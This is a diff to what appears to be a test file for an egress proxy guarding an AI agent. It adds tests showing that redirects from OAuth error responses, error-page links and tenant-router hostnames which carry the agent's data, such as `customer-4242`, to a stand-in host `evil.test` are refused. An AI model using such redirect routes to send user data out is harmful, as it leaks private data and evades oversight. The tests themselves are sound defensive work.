@@ -165,6 +165,31 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   const leak = `${web.origin('evil.test')}/c?d=customer-4242`;
   t.equal((await follow(`${web.origin('search.test')}/redirect?to=${encodeURIComponent(leak)}`)).status, 403, 'the Location the agent wrote into the query is refused');
   t.equal((await follow(`${web.origin('search.test')}/redirect?to=${encodeURIComponent(leak.toUpperCase())}`)).status, 403, 'in capitals too');
+  // Fifteenth pass: a redirect to another host built from a stored target and a request field —
+  // OAuth's authorize endpoint sends its errors to the redirect URI the client (an attacker's app)
+  // registered, with the request's `state` — carried the agent's data in a link the request never
+  // held whole; it was recorded as served by the allowed host and followed. Property over where
+  // the server puts the value and what the value looks like; a redirect carrying none is followed.
+  // The same link in an error page's body ("back to the application"), a value of 3 characters or more.
+  // Or in its host (a tenant router: `?tenant=<data>` → `https://<data>.saas.example/`).
+  await fc.assert(fc.asyncProperty(fc.constantFrom('query', 'path', 'inside', 'page', 'host'), fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._~-]{0,23}$/), async (put, raw) => {
+    const data = put === 'page' ? raw.padEnd(3, 'x') : put === 'host' ? raw.toLowerCase().replace(/[^a-z0-9]/g, '') || 'a' : raw;
+    const moved = await viaCurl(moverProxy, 'GET', `${web.origin('news.test')}/oauth/authorize?client_id=app-7&response_type=bogus&put=${put}&state=${encodeURIComponent(data)}`);
+    const hop = web.hits.at(-1)!;
+    const where = {
+      query: `/cb?error=unsupported_response_type&state=${encodeURIComponent(data)}`, path: `/cb/${encodeURIComponent(data)}`,
+      inside: `/cb?ctx=${encodeURIComponent(`v1.${data}.sig`)}`, page: `/cb?error=invalid_request&state=${encodeURIComponent(data)}`, host: '/login',
+    }[put];
+    // Refused before its name is looked up (a recorded link would pass the policy and fail to resolve: 502).
+    const r = await viaCurl(moverProxy, 'GET', `${web.origin(put === 'host' ? `${data}.evil.test` : 'evil.test')}${where}`);
+    return moved.status === (put === 'page' ? 200 : 302) && hop.host === 'news.test' && r.status === 403;
+  }), { numRuns: Math.min(numRuns, 5), ...seed });
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('news.test')}/oauth/authorize?client_id=app-7&put=host&state=customer4242`)).status, 302);
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('customer4242.evil.test')}/login`)).status, 403, 'a redirect to a host named by a request value is refused');
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('news.test')}/oauth/authorize?client_id=app-7&put=page&state=customer-4242`)).status, 200);
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/cb?error=invalid_request&state=customer-4242`)).status, 403, 'the error page\'s link carrying state is refused');
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('blog.test')}/help?topic=oauth&lang=en`)).status, 200, 'the error page\'s other link is followed');
+  t.equal((await follow(`${web.origin('news.test')}/oauth/authorize?client_id=app-7&response_type=bogus&put=none&state=customer-4242`)).status, 200, 'a redirect to another host that carries no request value is followed');
   // A click-through URL's target (in its query) is served too; the agent's own URL that an echoing
   // source wraps in one is not.
   results.push(`https://duckduckgo.example/l/?uddg=${encodeURIComponent(`${web.origin('blog.test')}/direct?id=7`)}&rut=1`);
